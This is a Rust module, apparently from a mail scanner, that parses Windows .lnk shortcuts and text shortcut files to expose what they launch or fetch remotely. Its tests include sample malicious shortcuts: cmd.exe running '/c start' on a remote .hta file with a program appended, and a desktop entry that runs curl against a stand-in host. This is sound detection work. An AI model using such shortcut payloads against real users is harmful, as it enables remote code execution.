//! Shortcuts: of Windows ([MS-SHLLINK]), and the small text files that lead somewhere when they are opened.

use bytes::Bytes;

use super::{field, markup};
use crate::mail::PartFlag;
use crate::mime::budget::Budget;
use crate::mime::container::{Ask, Member, Opened, name_text, u16_at, u32_at};
use crate::mime::{charset, links};

const HEADER_BYTES: usize = 76;
const HAS_IDS: u32 = 1;
const HAS_INFO: u32 = 2;
const IS_UNICODE: u32 = 0x80;

/// Texts that follow the header, by the bits that announce them.
const TEXTS: [(u32, &str); 5] = [
    (4, "description"),
    (8, "relative path"),
    (0x10, "folder"),
    (0x20, "arguments"),
    (0x40, "icon"),
];

/// Blocks of two paths each, 8-bit and Unicode: the target and the icon with variables in them.
const PATH_BLOCKS: [(u32, &str); 2] = [(0xa000_0001, "target"), (0xa000_0007, "icon")];

/// Keys of text files that say what is opened, or shown for them.
const KEYS: [&str; 10] = [
    "url",
    "baseurl",
    "origurl",
    "iconfile",
    "icon",
    "exec",
    "tryexec",
    "iconurl",
    "workingdirectory",
    "command",
];

pub(in crate::mime::container) fn open(ask: Ask<'_>, opened: &mut Opened) {
    let Ask { data, budget, passwords, .. } = ask;
    if !passwords.is_empty() {
        return;
    }
    opened.flag(PartFlag::Launch);
    if u32_at(data, 0) == Some(76) {
        shell_link(data, budget, opened);
    } else {
        text_file(&markup::text_of(data), opened);
    }
}

/// Where reading stands in a shortcut, and what was found.
#[derive(Default)]
struct Found {
    at: usize,
    lines: Vec<(String, String)>,
}

impl Found {
    fn add(&mut self, what: &str, text: &str) {
        let text = text.trim_matches('\0');
        let line = (what.to_owned(), text.to_owned());
        if !text.is_empty() && !self.lines.contains(&line) {
            self.lines.push(line);
        }
    }
}

fn shell_link(data: &Bytes, budget: &mut Budget, opened: &mut Opened) {
    let mut found = Found { at: HEADER_BYTES, ..Found::default() };
    let flags = u32_at(data, 20).unwrap_or(0);
    if flags & HAS_IDS != 0 {
        let length = usize::from(u16_at(data, found.at).unwrap_or(0));
        ids(
            data.get(found.at + 2..).and_then(|ids| ids.get(..length)).unwrap_or_default(),
            &mut found,
        );
        found.at += 2 + length;
    }
    if flags & HAS_INFO != 0 {
        let length = u32_at(data, found.at).and_then(|length| usize::try_from(length).ok());
        let end = found.at.saturating_add(length.unwrap_or(0)).min(data.len());
        info(data.get(found.at..end).unwrap_or_default(), &mut found);
        found.at = end;
    }
    for (_, what) in TEXTS.iter().filter(|(bit, _)| flags & bit != 0) {
        let Some(count) = u16_at(data, found.at).map(usize::from) else { break };
        let length = if flags & IS_UNICODE != 0 { count * 2 } else { count };
        let start = found.at + 2;
        let end = (start + length).min(data.len());
        let octets = data.get(start..end).unwrap_or_default();
        let text = match flags & IS_UNICODE {
            0 => name_text(octets),
            _ => charset::decode(octets, Some("utf-16le")).0.into_owned(),
        };
        found.add(what, &text);
        found.at = end;
    }
    blocks(data, &mut found);
    let mut text = String::new();
    for (what, line) in &found.lines {
        text.push_str(&format!("{what}: {line}\n"));
        field::remote(line, opened);
        for link in links::in_text(line) {
            field::link(&link, opened);
        }
    }
    let names = vec!["target.txt".to_owned()];
    opened.stored(Member { names, data: text.into(), ..Member::default() }, budget);
    const TAIL_BYTES_MIN: usize = 16;
    let tail = data.slice(found.at.min(data.len())..);
    if tail.len() >= TAIL_BYTES_MIN {
        // What a shortcut carries behind its end is what its command takes out of it.
        opened.flag(PartFlag::Object);
        opened.stored(Member { data: tail, ..Member::default() }, budget);
    }
}

/// The path in the list of shell items: each has a name in it, in 8-bit or Unicode.
fn ids(mut items: &[u8], found: &mut Found) {
    let mut path = Vec::new();
    while let Some(length) = u16_at(items, 0).map(usize::from).filter(|length| *length >= 3) {
        let item = items.get(2..length.min(items.len())).unwrap_or_default();
        items = items.get(length..).unwrap_or_default();
        let start = match item.first().map(|kind| kind & 0x70) {
            // A drive; a file or folder behind size, date and attributes; a share; an address.
            Some(0x20) => 1,
            Some(0x30) => 12,
            Some(0x40) => 3,
            Some(0x60) => 6,
            _ => continue,
        };
        let octets = item.get(start..).unwrap_or_default();
        let is_wide = octets.get(1) == Some(&0) && octets.first() != Some(&0);
        let text = if is_wide {
            charset::decode(octets, Some("utf-16le")).0
        } else {
            charset::guess(octets)
        };
        let name = text.split('\0').next().unwrap_or_default();
        if !name.is_empty() {
            path.push(name.trim_end_matches('\\').to_owned());
        }
    }
    found.add("target", &path.join("\\"));
}

/// LinkInfo (2.3): paths on a drive or in the network, by their places.
fn info(info: &[u8], found: &mut Found) {
    let place = |at| u32_at(info, at).and_then(|place| usize::try_from(place).ok()).unwrap_or(0);
    let text = |at: usize| {
        let rest = info.get(at..).filter(|_| at > 0).unwrap_or_default();
        name_text(rest.split(|octet| *octet == 0).next().unwrap_or_default())
    };
    let suffix = text(place(24));
    let local = text(place(16));
    if !local.is_empty() {
        found.add("target", &format!("{local}{suffix}"));
    }
    let network = place(20);
    if network > 0 {
        let name = place(network.saturating_add(8));
        let share = text(network.saturating_add(name));
        found.add("target", &format!("{share}\\{suffix}"));
    }
    // With a longer header come the same in Unicode.
    if place(4) >= 36 {
        let wide = |at: usize| {
            let rest = info.get(at..).filter(|_| at > 0).unwrap_or_default();
            let text = charset::decode(rest, Some("utf-16le")).0;
            text.split('\0').next().unwrap_or_default().to_owned()
        };
        let local = wide(place(28));
        if !local.is_empty() {
            found.add("target", &format!("{local}{}", wide(place(32))));
        }
    }
}

/// Blocks of extra data (2.5), until one that is too short to be one.
fn blocks(data: &[u8], found: &mut Found) {
    const BLOCKS_MAX: usize = 100;
    for _ in 0..BLOCKS_MAX {
        let Some(size) = u32_at(data, found.at).and_then(|size| usize::try_from(size).ok()) else {
            return;
        };
        if size < 4 {
            found.at += 4;
            return;
        }
        let signature = u32_at(data, found.at + 4).unwrap_or(0);
        // What has no signature of a block is no block but hung on.
        if signature >> 16 != 0xa000 || size < 8 {
            return;
        }
        let end = found.at.saturating_add(size).min(data.len());
        let block = data.get(found.at..end).unwrap_or_default();
        for (_, what) in PATH_BLOCKS.iter().filter(|(known, _)| *known == signature) {
            let plain = block.get(8..268).unwrap_or_default();
            found
                .add(what, &name_text(plain.split(|octet| *octet == 0).next().unwrap_or_default()));
            let wide = charset::decode(block.get(268..788).unwrap_or_default(), Some("utf-16le")).0;
            found.add(what, wide.split('\0').next().unwrap_or_default());
        }
        found.at = end;
    }
}

/// Lines of the form `Key=Value`, or XML with addresses.
fn text_file(text: &str, opened: &mut Opened) {
    const LINES_MAX: usize = 10_000;
    for line in text.lines().take(LINES_MAX) {
        let Some((key, value)) = line.split_once('=') else { continue };
        let key = key.trim().to_ascii_lowercase();
        if KEYS.contains(&key.as_str()) {
            target(value.trim(), &key, opened);
        }
    }
    if text.trim_start().starts_with('<') {
        for tag in markup::tags(text).filter(|tag| tag.name == "url" || tag.name == "include") {
            target(&markup::plain(tag.text), &tag.name, opened);
            target(&tag.attribute("path").unwrap_or_default(), &tag.name, opened);
        }
    }
}

fn target(value: &str, key: &str, opened: &mut Opened) {
    let is_web = ["http:", "https:", "mailto:"]
        .iter()
        .any(|scheme| value.get(..scheme.len()).is_some_and(|s| s.eq_ignore_ascii_case(scheme)));
    // An address on the web is a link; an icon is fetched when the folder is shown; a file on another host is run.
    if is_web && !key.starts_with("icon") {
        field::link(value, opened);
    } else {
        field::remote(value, opened);
    }
    for link in links::in_text(value) {
        field::link(&link, opened);
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::mime::Limits;
    use crate::mime::container::{Container, try_open};

    fn opened(data: Vec<u8>) -> Opened {
        try_open(Container::Shortcut, data, None, &Limits::default())
    }

    fn pack(arguments: &str, tail: &[u8]) -> Vec<u8> {
        let mut out = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec();
        out.extend((HAS_IDS | IS_UNICODE | 0x20 | 0x40).to_le_bytes());
        out.resize(HEADER_BYTES, 0);
        let item = |kind: u8, skip: usize, name: &[u8]| {
            let length = u16::try_from(2 + skip + name.len()).unwrap().to_le_bytes();
            [&length[..], &[kind], &vec![0; skip - 1], name].concat()
        };
        let items =
            [item(0x2f, 1, b"C:\\\0"), item(0x31, 12, b"Windows\0"), item(0x32, 12, b"cmd.exe\0")];
        let items = [items.concat(), vec![0, 0]].concat();
        out.extend(u16::try_from(items.len()).unwrap().to_le_bytes());
        out.extend(items);
        for text in [arguments, "\\\\host\\share\\x.ico"] {
            out.extend(u16::try_from(text.encode_utf16().count()).unwrap().to_le_bytes());
            out.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
        }
        out.extend([0; 4]);
        out.extend(tail);
        out
    }

    #[test]
    fn a_shortcut_tells_what_it_runs() {
        let opened = opened(pack("/c start http://a.b/x.hta", b"MZ and a whole program"));
        let text = String::from_utf8(opened.members[0].data.to_vec()).unwrap();
        assert!(text.contains("target: C:\\Windows\\cmd.exe\n"), "{text}");
        assert!(text.contains("arguments: /c start http://a.b/x.hta\n"), "{text}");
        assert_eq!(&opened.members[1].data[..], b"MZ and a whole program");
        let urls: Vec<&str> = opened.links.iter().map(|(url, _)| url.as_str()).collect();
        assert!(urls.contains(&"http://a.b/x.hta") && urls.contains(&"\\\\host\\share\\x.ico"));
        assert!(
            opened.flags.contains(&PartFlag::Launch) && opened.flags.contains(&PartFlag::Remote)
        );
    }

    #[test]
    fn text_files_lead_somewhere() {
        type Row = (&'static str, bool, &'static str);
        let table: [Row; 5] = [
            ("[InternetShortcut]\r\nURL=http://a.b/\r\n", false, "http://a.b/"),
            ("[InternetShortcut]\r\nURL=file://a.b/x/y.exe\r\n", true, "file://a.b/x/y.exe"),
            ("[Shell]\nIconFile=\\\\a.b\\x.ico\n", true, "\\\\a.b\\x.ico"),
            ("[Desktop Entry]\nExec=sh -c 'curl http://a.b/x'\n", true, "http://a.b/x'"),
            ("<libraryDescription><url>\\\\a.b\\x</url></libraryDescription>", true, "\\\\a.b\\x"),
        ];
        for (text, remote, link) in table {
            let opened = opened(text.into());
            assert_eq!(opened.flags.contains(&PartFlag::Remote), remote, "{text}");
            let found =
                opened.links.iter().any(|(url, _)| url.starts_with(link.trim_matches('\'')));
            assert!(found, "{text} {:?}", opened.links);
        }
    }

    proptest! {
        #[test]
        fn no_octets_make_it_fail(at in 20_usize..150, octets: Vec<u8>, cut in 0_usize..300) {
            let mut data = pack("x", b"y");
            for (index, octet) in octets.iter().enumerate() {
                if let Some(place) = data.get_mut(at + index) {
                    *place = *octet;
                }
            }
            data.truncate(cut);
            opened(data);
        }
    }
}
